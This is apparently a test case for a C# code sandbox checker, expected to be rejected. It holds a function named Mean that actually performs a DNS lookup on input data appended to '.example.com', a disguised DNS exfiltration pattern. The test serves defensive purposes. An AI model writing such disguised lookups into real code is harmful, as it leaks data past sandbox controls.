// Resolves a host name (a way to send data out through DNS).
// verdict: Rejected or CompileError
// diagnostic: Dns
// on: Dns.
// needs: allowlist
using MathNet.Numerics.LinearAlgebra;

double Mean(double[] xs) => System.Net.Dns.GetHostAddresses(xs[0] + ".example.com").Length;

Matrix<double> Scale(Matrix<double> M, double k) => M * k;
